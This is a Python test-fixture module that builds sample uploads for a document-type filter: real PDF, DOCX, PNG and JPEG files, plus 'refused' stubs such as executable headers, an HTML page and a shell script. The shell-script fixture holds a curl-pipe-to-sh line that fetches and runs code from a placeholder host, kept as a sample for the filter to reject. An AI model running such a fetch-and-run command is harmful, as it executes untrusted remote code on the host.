"""Real files of each kind, made here byte for byte by the libraries and formats that make them in life:
a PDF by fpdf2, a Word document as the zip Word writes, PNG and JPEG pictures by Pillow; and the things
that must be refused (programs, scripts, web pages, archives that are not documents). No Django here."""

from __future__ import annotations

import io
import struct
import zipfile

from fpdf import FPDF
from PIL import Image

CONTENT_TYPES_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELS_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
)


def pdf(text: str = "Educational psychology report") -> bytes:
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text=text)
    return bytes(document.output())


def docx(text: str = "Occupational therapy advice", *, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal Word document: the parts Word itself needs to open it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_XML)
        archive.writestr("_rels/.rels", RELS_XML)
        archive.writestr("word/document.xml", DOCUMENT_XML.format(text=text))
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_of(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _picture(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 12), (20, 120, 200)).save(out, format=fmt)
    return out.getvalue()


def png() -> bytes:
    return _picture("PNG")


def jpeg() -> bytes:
    return _picture("JPEG")


# ---- refused
def windows_program() -> bytes:
    """The start of a Windows executable: the DOS header ("MZ") pointing at a PE header."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    dos[60:64] = struct.pack("<I", 64)
    return bytes(dos) + b"PE\x00\x00" + bytes(200)


def linux_program() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HH", 2, 0x3E) + bytes(200)


def mac_program() -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<II", 0x01000007, 3) + bytes(200)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def web_page() -> bytes:
    return b"\xef\xbb\xbf\n  <!DOCTYPE html><html><body><script src=x.js></script></body></html>"


def old_word_document() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def plain_text() -> bytes:
    return b"Notes from the visit: see attached.\n"
